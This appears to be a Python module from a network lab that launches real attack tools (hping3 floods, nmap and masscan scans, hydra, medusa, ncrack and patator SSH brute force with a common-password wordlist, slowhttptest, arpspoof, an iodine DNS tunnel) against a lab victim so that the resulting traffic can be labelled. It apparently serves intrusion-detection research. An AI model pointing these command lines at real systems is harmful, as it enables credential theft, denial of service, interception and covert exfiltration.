"""The attack runners: one function per tool, each running one variation with the real tool
from the attacker namespace and returning what the label needs (actual start and end time,
the exact command line, attacker and victim addresses).

A variation arrives as a dict (see lab.py expand()): class, tool, name, duration (seconds; for
tools that finish on their own it is the cap), args (the tool's arguments, placeholders already
filled in), plus tool-specific keys. Runners never touch the capture; lab.py brackets them.
"""
import random
import shlex
import signal
import subprocess
import time

from netns import sh

# First names and common passwords for hydra's wordlists; the right password is appended only
# when a variation asks for a successful guess.
COMMON = ["123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
          "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
          "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890", "michael",
          "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "qazwsx", "123qwe",
          "killer", "trustno1", "jordan", "jennifer", "zxcvbnm", "asdfgh", "hunter", "buster",
          "soccer", "harley", "batman", "andrew", "tigger", "sunshine", "iloveyou", "2000", "charlie",
          "robert", "thomas", "hockey", "ranger", "daniel", "starwars", "klaster", "112233", "george",
          "computer", "michelle", "jessica", "pepper", "1111", "zxcvbn", "555555", "11111111", "131313",
          "freedom", "777777", "pass", "maggie", "159753", "aaaaaa", "ginger", "princess", "joshua",
          "cheese", "amanda", "summer", "love", "ashley", "nicole", "chelsea", "biteme", "matthew",
          "access", "yankees", "987654321", "dallas", "austin", "thunder", "taylor", "matrix"]


def wordlist(rng, n):
    """n guesses: the common passwords, then the usual mutations of them (Capitalised, year or
    digits appended, a trailing !), shuffled like a real list would not be, but reproducibly."""
    out, seen = list(COMMON), set(COMMON)
    while len(out) < n:
        w = rng.choice(COMMON)
        w = rng.choice([w.capitalize(), w, w.upper()]) + rng.choice(["", "1", "123", "!", "2023", "2024", str(rng.randint(0, 99))])
        if w not in seen:
            seen.add(w)
            out.append(w)
    out = out[:n]
    rng.shuffle(out)
    return out


class Runner:
    def __init__(self, lab, svc, logdir):
        self.lab, self.svc, self.logdir = lab, svc, logdir
        self.port = 9000  # tunnel data port, new per variation so nothing lingers across runs

    def run(self, var, log):
        fn = getattr(self, f"run_{var['tool']}")
        att, vic = self.lab.attacker, self.lab.victim
        label = {"attacker_ips": [att.ip], "attacker_macs": [att.mac], "victim_ips": [vic.ip],
                 "target_ips": [vic.ip], "spoofed": False}
        label.update(fn(var, log) or {})
        return label

    # ---- helpers ----------------------------------------------------------------------------
    def _timed(self, argv, var, log, stop_after=None, host=None, grace=5):
        """Run argv in the attacker namespace. stop_after=N: signal it (SIGINT, like Ctrl-C, so
        tools print their statistics and arpspoof restores the tables) after N seconds;
        otherwise wait for it to finish, at most the variation's duration (its cap)."""
        host = host or self.lab.attacker
        with open(log, "a") as f:
            f.write(f"$ {shlex.join(argv)}\n")
        start = time.time()
        # cwd: tools that drop files (hydra.restore) leave them with the logs
        p = self.lab.spawn(host, argv, log=log, cwd=self.logdir)
        try:
            p.wait(stop_after if stop_after is not None else var["duration"])
        except subprocess.TimeoutExpired:
            pass
        rc = self.lab.stop(p, timeout=grace)
        end = time.time()
        return {"start_epoch": start, "end_epoch": end, "exit_code": rc, "options": shlex.join(argv)}

    # ---- floods -----------------------------------------------------------------------------
    def run_hping3(self, var, log):
        # -q: no per-reply lines (they would cost CPU at thousands of packets per second)
        res = self._timed(["hping3", "-q", *var["args"]], var, log, stop_after=var["duration"])
        if var.get("spoofed"):
            # source addresses are random: the attack is labelled by destination (and by the
            # attacker's MAC, which the frames still carry on the lab segment)
            res.update(spoofed=True, attacker_ips=[])
        return res

    # ---- scans ------------------------------------------------------------------------------
    def run_nmap(self, var, log):
        return self._timed(["nmap", *var["args"]], var, log)

    def run_masscan(self, var, log):
        att, vic = self.lab.attacker, self.lab.victim
        # masscan has its own TCP/IP stack: it must be told its address and MAC, and it sends
        # every frame to the "router" MAC, which on this flat segment is the victim itself
        argv = ["masscan", "--adapter", "eth0", "--adapter-ip", att.ip, "--adapter-mac", att.mac,
                "--router-mac", vic.mac, *var["args"]]
        with open(log, "a") as f:
            f.write(f"$ {shlex.join(argv)}\n")
        start = time.time()
        p = self.lab.spawn(self.lab.attacker, argv, log=log, cwd=self.logdir)
        # masscan 1.3.2 in a namespace never exits after its --wait (the countdown goes
        # negative), so stop it once the countdown has passed zero
        while p.poll() is None and time.time() - start < var["duration"]:
            if "waiting -1-secs" in open(log, errors="replace").read():
                break
            time.sleep(0.5)
        rc = self.lab.stop(p, signal.SIGTERM, timeout=3)  # it ignores SIGINT at that point
        return {"start_epoch": start, "end_epoch": time.time(), "exit_code": rc, "options": shlex.join(argv)}

    # ---- ssh brute force --------------------------------------------------------------------
    def _credentials(self, var):
        """Writes the variation's user and password lists; returns (userfile, wordlist, words)."""
        rng = random.Random(var.get("seed", 0))
        words = wordlist(rng, int(var.get("words", 40)))
        if var.get("find_password"):
            words.append(self.svc.password)
        wl = f"{self.logdir}/{var['id']}-wordlist.txt"
        with open(wl, "w") as f:
            f.write("\n".join(words) + "\n")
        users = var.get("users", [self.svc.user])
        userfile = f"{self.logdir}/{var['id']}-users.txt"
        with open(userfile, "w") as f:
            f.write("\n".join(users) + "\n")
        return userfile, wl, words

    def _guess(self, var, log, argv_for):
        """Runs one SSH password guesser; `port` (default 22) is where the victim's sshd listens."""
        userfile, wl, words = self._credentials(var)
        res = self._timed(argv_for(userfile, wl, str(var.get("port", 22)), self.lab.victim.ip), var, log)
        res["words"] = len(words)
        res["port"] = int(var.get("port", 22))
        return res

    def run_hydra(self, var, log):
        # -I: ignore a restore file from an earlier run; -o: found credentials for the log
        return self._guess(var, log, lambda u, w, port, ip: [
            "hydra", "-I", "-L", u, "-P", w, *var["args"], f"ssh://{ip}:{port}"])

    def run_medusa(self, var, log):
        return self._guess(var, log, lambda u, w, port, ip: [
            "medusa", "-M", "ssh", "-h", ip, "-n", port, "-U", u, "-P", w, *var["args"]])

    def run_ncrack(self, var, log):
        return self._guess(var, log, lambda u, w, port, ip: [
            "ncrack", "-U", u, "-P", w, *var["args"], f"ssh://{ip}:{port}"])

    def run_patator(self, var, log):
        # patator's modules take files as FILE0/FILE1 keywords; it prints one line per attempt
        return self._guess(var, log, lambda u, w, port, ip: [
            "patator", "ssh_login", f"host={ip}", f"port={port}", "user=FILE0", "password=FILE1",
            f"0={u}", f"1={w}", *var["args"], "-x", "ignore:mesg=Authentication failed."])

    # ---- slow HTTP ----------------------------------------------------------------------------
    def run_slowhttptest(self, var, log):
        url = f"http://{self.lab.victim.ip}{var.get('path', '/')}"
        argv = ["slowhttptest", *var["args"], "-l", str(var["duration"]), "-u", url]
        # slowhttptest stops itself after -l seconds; give it a little time to close sockets
        v = dict(var, duration=var["duration"] + 15)
        return self._timed(argv, v, log)

    # ---- ARP poisoning ------------------------------------------------------------------------
    def run_arpspoof(self, var, log):
        att = self.lab.attacker
        # forward=true: a real man in the middle relays what it intercepts (the victim keeps
        # working); false: the victim's traffic to the spoofed host is black-holed
        fwd = "1" if var.get("forward") else "0"
        sh("ip", "netns", "exec", att.ns, "sysctl", "-qw", f"net.ipv4.ip_forward={fwd}")
        try:
            # after Ctrl-C arpspoof re-ARPs the true MACs for a few seconds: let it finish
            res = self._timed(["arpspoof", "-i", "eth0", *var["args"]], var, log,
                              stop_after=var["duration"], grace=40)
        finally:
            sh("ip", "netns", "exec", att.ns, "sysctl", "-qw", "net.ipv4.ip_forward=0")
        # the impersonated host's address is the one the poison claims
        res["impersonated_ips"] = [a for a in var["args"] if a.count(".") == 3 and a != self.lab.victim.ip] \
            or [self.lab.victim.ip]
        return res

    # ---- DNS tunnel ---------------------------------------------------------------------------
    def run_iodine(self, var, log):
        att, vic, svc = self.lab.attacker, self.lab.victim, self.svc
        via_resolver = var.get("via_resolver", False)
        ns_ip = vic.ip if via_resolver else vic.extra_ips[0]
        argv = ["iodine", "-f", "-r", "-P", svc.tunnel_password, *var["args"], ns_ip, svc.tunnel_domain]
        with open(log, "a") as f:
            f.write(f"$ {shlex.join(argv)}\n")
        start = time.time()
        client = self.lab.spawn(att, argv, log=log)
        server_ip = svc.tunnel_net.split("/")[0]
        self.port += 1
        listener = None
        try:
            if not self._wait_tunnel(client, log, 40):
                raise RuntimeError("iodine tunnel did not come up; see " + log)
            # the receiving end inside the victim, then real data through the tunnel
            listener = self.lab.spawn(vic, ["python3", "-c", RECEIVER.format(ip=server_ip, port=self.port)],
                                      log=log)
            time.sleep(0.3)
            sender = SENDER.format(ip=server_ip, port=self.port, total=int(var.get("bytes", 200_000)),
                                   chunk=int(var.get("chunk", 4096)), gap=float(var.get("gap", 0)),
                                   seed=var.get("seed", 0))
            self._timed(["python3", "-c", sender], var, log)
            listener.wait(10)  # it exits once it has read everything
        except subprocess.TimeoutExpired:
            pass
        finally:
            self.lab.stop(client)
            if listener:
                self.lab.stop(listener)
        end = time.time()
        return {"start_epoch": start, "end_epoch": end, "exit_code": client.returncode,
                "options": shlex.join(argv), "victim_ips": [ns_ip], "target_ips": [ns_ip],
                "bytes": int(var.get("bytes", 200_000)), "via_resolver": via_resolver}

    def _wait_tunnel(self, client, log, timeout):
        """dns0 exists before iodine has finished probing encodings and fragment sizes; the
        client says when the tunnel is usable."""
        deadline = time.time() + timeout
        while time.time() < deadline:
            if client.poll() is not None:
                return False
            if "Connection setup complete" in open(log, errors="replace").read():
                return True
            time.sleep(0.3)
        return False


# Sends `total` random bytes in `chunk`-sized writes with `gap` seconds between them: gap=0 is a
# bulk file transfer, a gap makes it look like an interactive session or slow exfiltration.
SENDER = """
import random, socket, time
r = random.Random({seed}); s = socket.create_connection(('{ip}', {port}), 10)
left = {total}
while left > 0:
    n = min({chunk}, left); s.sendall(r.randbytes(n)); left -= n
    if {gap}: time.sleep({gap})
s.shutdown(socket.SHUT_WR); s.settimeout(10)
try: s.recv(1)
except OSError: pass
"""

# The victim end: reads until the sender closes, says how much arrived (in the variation's log).
RECEIVER = """
import socket
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(('{ip}', {port})); l.listen(1); c, _ = l.accept(); n = 0
while True:
    b = c.recv(65536)
    if not b: break
    n += len(b)
c.close(); print('tunnel receiver got', n, 'bytes', flush=True)
"""
